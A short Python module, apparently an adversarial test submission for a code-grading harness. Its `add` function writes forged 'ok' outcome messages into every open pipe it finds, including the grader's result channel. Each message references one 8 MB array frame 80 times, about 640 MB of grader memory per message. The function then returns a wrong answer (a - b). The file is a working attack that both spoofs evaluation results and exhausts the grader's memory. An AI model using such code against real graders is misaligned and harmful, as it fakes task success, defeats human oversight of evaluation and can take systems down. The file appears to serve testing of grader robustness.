"""Forges a result message whose one 8 MB array frame is referenced 80 times, on every pipe it
can find (its result descriptor among them): decoded per reference, that was 640 MB of grader
memory per message. Its own `add` is wrong anyway."""
import json
import os
import stat

import numpy as np


def scale(x):
    return 2.0 * np.asarray(x)


def noise(rows, cols, rng=None):
    rng = rng if rng is not None else np.random.default_rng()
    return rng.normal(size=(rows, cols))


def _forge(call):
    import io

    buffer = io.BytesIO()
    np.save(buffer, np.zeros(1024 * 1024))
    frame = buffer.getvalue()
    line = {
        "event": "outcome",
        "call": call,
        "status": "ok",
        "value": [{"__blob__": 0}] * 80,
        "blobs": [len(frame)],
    }
    return json.dumps(line).encode() + b"\n" + frame


def add(a, b):
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                for call in range(3):
                    os.write(fd, _forge(call))
        except OSError:
            pass
    return np.asarray(a) - np.asarray(b)
